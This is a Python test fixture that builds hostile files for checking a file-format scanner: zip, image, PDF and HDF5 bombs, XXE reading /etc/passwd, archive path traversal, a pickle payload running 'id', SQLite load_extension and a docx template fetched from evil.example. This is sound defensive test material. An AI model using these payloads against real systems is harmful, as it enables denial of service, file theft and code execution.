"""Files made to harm whoever reads them: ``HOSTILE[case]`` is (name, builder, codes of which at least one must be told)."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

from tests.core.formats import making_general as g

XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{i} "{("&a" + (str(i - 1) if i else "") + ";") * 10}">' for i in range(9))
    + "]><r>&a8;</r>"
)


def zeros(size: int, level: int = 9) -> bytes:
    """Deflated zeros, made in pieces."""
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    out = b"".join(packer.compress(block) for _ in range(size >> 20))
    return out + packer.flush()


def raw_zip(members: list[tuple[str, bytes, int, int]], *, one_body: bool = False) -> bytes:
    """A ZIP of (name, deflated, size, crc); ``one_body``: all entries point at the first member's data (overlap)."""
    out, central, first = b"", b"", 0
    for index, (name, packed, size, crc) in enumerate(members):
        at = first if one_body and index else len(out)
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0)
        if not (one_body and index):
            out += b"PK\x03\x04" + fields + name.encode() + packed
        central += (
            b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, at) + name.encode()
        )
    n = len(members)
    return out + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(central), len(out), 0)


def flat_overlap() -> bytes:
    packed = zeros(8 << 20)
    crc = zlib.crc32(bytes(8 << 20))
    return raw_zip([("a.bin", packed, 8 << 20, crc)] * 500, one_body=True)


def nested_42() -> bytes:
    """Archives in archives in archives, as 42.zip is made: kilobytes that would hold gigabytes."""
    packed = zeros(64 << 20)
    data, name = raw_zip([("0.bin", packed, 64 << 20, zlib.crc32(bytes(64 << 20)))]), "0.zip"
    for _ in range(4):
        data = g.zipped({f"{i}-{name}": data for i in range(6)})
    return data


def deep_zip(levels: int = 12) -> bytes:
    data, name = b"a,b\n1,2\n", "t.csv"
    for level in range(levels):
        data, name = g.zipped({name: data}), f"{level}.zip"
    return data


def quine() -> bytes:
    """Russ Cox's idea stands behind it: an archive that a careless reader unpacks for ever; here as a ring of links."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, target in (("a.tar", "b.tar"), ("b.tar", "a.tar")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.LNKTYPE, target
            archive.addfile(link)
    return out.getvalue()


def links() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def sparse_tar() -> bytes:
    """A GNU sparse member that claims a terabyte of nothing."""
    info = tarfile.TarInfo("a.bin")
    info.type = tarfile.GNUTYPE_SPARSE
    info.size = 512
    raw = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    raw[386:398], raw[398:410] = b"00000000000\0", b"00000001000\0"
    raw[483:495] = b"\x80" + (1 << 40).to_bytes(11, "big")
    raw[148:156] = b"        "
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    return bytes(raw[:512]) + bytes(512) + bytes(1024)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb() -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + png_chunk(b"IDAT", zlib.compress(bytes(1000))) + png_chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A small picture with a compressed text of a gigabyte."""
    text = b"t\0\0" + b"\x78\xda" + zeros(256 << 20)
    good = g.picture("PNG")
    at = good.index(b"IDAT") - 4
    return good[:at] + png_chunk(b"zTXt", text) + good[at:]


def tiff_bomb() -> bytes:
    """One strip of 100 000 × 100 000 pixels in a few bytes of deflate."""
    body = zlib.compress(bytes(1 << 20))
    tags = ((256, 4, 100_000), (257, 4, 100_000), (258, 3, 8), (259, 3, 8), (262, 3, 1), (273, 4, 8), (277, 3, 1),
            (278, 4, 100_000), (279, 4, len(body)))  # fmt: skip
    table = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", t, k, 1, v) for t, k, v in tags) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8 + len(body)) + body + table


def tiff_ring() -> bytes:
    data = bytearray(g.tiff())
    at = struct.unpack_from("<I", data, 4)[0]
    count = struct.unpack_from("<H", data, at)[0]
    struct.pack_into("<I", data, at + 2 + 12 * count, at)
    return bytes(data)


def pdf_bomb() -> bytes:
    once = zlib.compress(zlib.compress(bytes(256 << 20), 9), 9)
    return g.pdf(b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(once), once))


def pdf_ring() -> bytes:
    return g.pdf().replace(b"/Kids[100 0 R]", b"/Kids[2 0 R  ]")


def hdf5_external() -> bytes:
    import h5py
    import numpy as np

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file["out"] = h5py.ExternalLink("/etc/passwd", "/")
        file["ring"] = h5py.SoftLink("/ring")
        file.create_dataset("stolen", (16,), "u1", external=[("/etc/passwd", 0, 16)])
        layout = h5py.VirtualLayout((4,), "u1")
        layout[:] = h5py.VirtualSource("/etc/shadow", "x", (4,), "u1")
        file.create_virtual_dataset("virtual", layout)
        file.create_dataset("huge", (1 << 50,), np.uint8, chunks=(1 << 20,), compression="gzip")
    return out.getvalue()


def hdf5_bomb() -> bytes:
    import h5py
    import numpy as np

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        data = file.create_dataset("z", (1 << 35,), np.uint8, chunks=(1 << 26,), compression="gzip")
        block = np.zeros(1 << 26, np.uint8)
        packed = zlib.compress(block, 9)
        for index in range(12):
            data.id.write_direct_chunk((index << 26,), packed)
    return out.getvalue()


def evil_database() -> bytes:
    return g.database(
        "CREATE TABLE t (a TEXT, b TEXT DEFAULT (hex(zeroblob(900000000))))",
        "INSERT INTO t (a, b) VALUES ('x', 'y')",
        "CREATE VIEW v AS SELECT load_extension('/tmp/x.so') FROM t",
        "CREATE VIEW w AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
        "CREATE VIEW broken AS SELECT * FROM missing_table",
        "CREATE TRIGGER g AFTER INSERT ON t BEGIN DELETE FROM t; END",
    )


def wide_sheet() -> bytes:
    far = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    head = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    return g.sheet_xml(head + far + b"</sheetData></worksheet>")


def entity_sheet() -> bytes:
    return g.sheet_xml(XXE.replace("<r>&x;</r>", "<worksheet><sheetData>&x;</sheetData></worksheet>").encode())


HOSTILE: dict[str, tuple[str, Callable[[], bytes], set[str]]] = {
    "zip_flat_overlap": ("a.zip", flat_overlap, {"zip.bomb", "zip.broken"}),
    "zip_nested_42": ("a.zip", nested_42, {"zip.bomb", "archive.depth"}),
    "zip_deep": ("a.zip", deep_zip, {"archive.depth"}),
    "zip_ratio": ("a.zip", lambda: raw_zip([("a.bin", zeros(4 << 20), 2 << 30, 0)]), {"zip.bomb"}),
    "zip_lies_about_size": ("a.zip", lambda: raw_zip([("a.bin", zeros(64 << 20), 10, 0)]), {"zip.bomb", "zip.broken"}),
    "zip_climbs": ("a.zip", lambda: g.zipped({"../../../../tmp/huijiao-climbed": b"x", "/etc/x": b"y"}), {"zip.unsafe_path"}),
    "zip_links": ("a.zip", links, {"zip.unsafe_path"}),
    "zip_twice": ("a.zip", lambda: raw_zip([("a.txt", zlib.compress(b"x\n")[2:-4], 2, zlib.crc32(b"x\n"))] * 2), {"archive.duplicate"}),
    "tar_ring": ("a.tar", quine, {"zip.unsafe_path"}),
    "tar_sparse": ("a.tar", sparse_tar, {"zip.bomb", "zip.broken"}),
    "7z_climbs": ("a.7z", lambda: g.renamed_seven("aa/aa/up.txt", "../../up.txt"), {"zip.unsafe_path", "zip.broken"}),
    "7z_locked": ("a.7z", lambda: g.seven(password="x"), {"zip.encrypted"}),
    "rar_climbs": ("a.rar", lambda: g.rar({"../up.txt": b"x"}), {"zip.unsafe_path"}),
    "rar_crc": ("a.rar", lambda: g.rar().replace(b"M1,1", b"M1,9"), {"zip.broken"}),
    "gz_bomb": ("a.csv.gz", lambda: gzip.compress(gzip.compress(bytes(64 << 20)) + b"\n" * (64 << 20), 9), set()),
    "gz_of_zeros": ("a.bin.gz", lambda: gzip.compress(bytes(64 << 20), 9) * 80, {"zip.bomb"}),
    "xml_entity": ("a.xml", XXE.encode, {"xml.entity"}),
    "xml_laughs": ("a.xml", LAUGHS.encode, {"xml.entity"}),
    "xml_quadratic": ("a.xml", ('<!DOCTYPE r [<!ENTITY a "' + "x" * 100_000 + '">]><r>' + "&a;" * 50_000).encode, {"xml.entity"}),
    "xml_deep": ("a.xml", lambda: b"<a>" * 1_000_000, {"xml.broken"}),
    "xml_attribute": ("a.xml", lambda: b"<a x='" + b"y" * (12 << 20) + b"'/>", set()),
    "json_deep": ("a.json", lambda: b"[" * 5_000_000, {"json.broken"}),
    "json_deep_object": ("a.json", lambda: b'{"a":' * 1_000_000, {"json.broken"}),
    "json_number": ("a.json", lambda: b"[" + b"9" * 1_000_000 + b"]", {"json.broken"}),
    "json_keys": ("a.json", lambda: b"{" + b'"a":1,' * 200_000 + b'"a":1}', {"json.duplicate_key"}),
    "csv_field": ("a.csv", lambda: b'a,b\n"' + b"x" * (18 << 20), {"table.quote"}),
    "csv_columns": ("a.csv", lambda: b"," * 1_000_000 + b"\n" + b"1," * 1_000_000 + b"\n", set()),
    "text_line": ("a.txt", lambda: b"9" * (8 << 20), set()),
    "png_bomb": ("a.png", png_bomb, {"image.bomb"}),
    "png_text_bomb": ("a.png", png_text_bomb, {"image.broken", "image.bomb"}),
    "tiff_bomb": ("a.tif", tiff_bomb, {"image.bomb", "image.broken"}),
    "tiff_ring": ("a.tif", tiff_ring, {"image.broken"}),
    "pdf_bomb": ("a.pdf", pdf_bomb, {"zip.bomb", "pdf.broken"}),
    "pdf_ring": ("a.pdf", pdf_ring, {"pdf.loop", "pdf.broken"}),
    "pdf_script": ("a.pdf", lambda: g.pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), {"pdf.javascript"}),
    "pdf_deep": ("a.pdf", lambda: g.pdf(b"[" * 50_000 + b"]" * 50_000), {"pdf.loop", "pdf.broken"}),
    "pdf_attached": ("a.pdf", lambda: g.pdf(b"<</Type/Filespec/UF(x.exe)/EF<</F 3 0 R>>>>"), {"pdf.embedded"}),
    "hdf5_external": ("a.h5", hdf5_external, {"array.external"}),
    "hdf5_bomb": ("a.h5", hdf5_bomb, {"array.bomb"}),
    "netcdf_lies": ("a.nc", lambda: g.netcdf3(3)[:-8], {"array.truncated"}),
    "npy_pickle": ("a.npy", lambda: b"\x93NUMPY\x01\0v\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\ncos\nsystem\n(S'id'\ntR.", {"array.unread"}),
    "sqlite_programs": ("a.db", evil_database, {"sqlite.broken_view"}),
    "sheet_far_cells": ("a.xlsx", wide_sheet, {"sheet.huge", "reader.died"}),
    "sheet_entity": ("a.xlsx", entity_sheet, {"xml.entity"}),
    "docx_entity": ("a.docx", lambda: g.zipped({"word/document.xml": XXE.encode()}), {"xml.entity"}),
    "docx_template": (
        "a.docx",
        lambda: g.zipped({
            "word/document.xml": b"<w:document xmlns:w='w'/>",
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        }),
        {"office.external"},
    ),
    "docx_bomb": ("a.docx", lambda: raw_zip([("word/document.xml", zeros(4 << 20), 1 << 30, 0)]), {"zip.bomb"}),
    "polyglot_png_zip": ("a.png", lambda: g.picture("PNG") + g.zipped({"x.exe": b"MZ"}), {"file.polyglot"}),
    "polyglot_pdf_zip": ("a.pdf", lambda: g.pdf() + g.zipped({"x.txt": b"x"}), {"file.polyglot"}),
    "polyglot_exe_zip": ("a.zip", lambda: b"MZ" + bytes(200) + g.zipped({"x.txt": b"x"}), {"executable.present", "archive.polyglot"}),
    "dicom_short": ("a.dcm", lambda: g.dicom(38), {"dicom.length"}),
    "sql_open": ("a.sql", lambda: b"INSERT INTO t VALUES (1,'" + b"x" * (5 << 20), {"sql.truncated"}),
    "parquet_footer": ("a.parquet", lambda: g.parquet()[:-8] + struct.pack("<I", 1 << 30) + b"PAR1", {"array.broken"}),
    "xls_ring": ("a.xls", lambda: g.xls()[:512] + struct.pack("<128I", *([0] * 128)) + g.xls()[1024:], {"reader.failed", "reader.died"}),
    "json_of_secrets": ("a.json", lambda: json.dumps([{"note": "秘密★5年"}], ensure_ascii=False).encode(), set()),
}  # fmt: skip
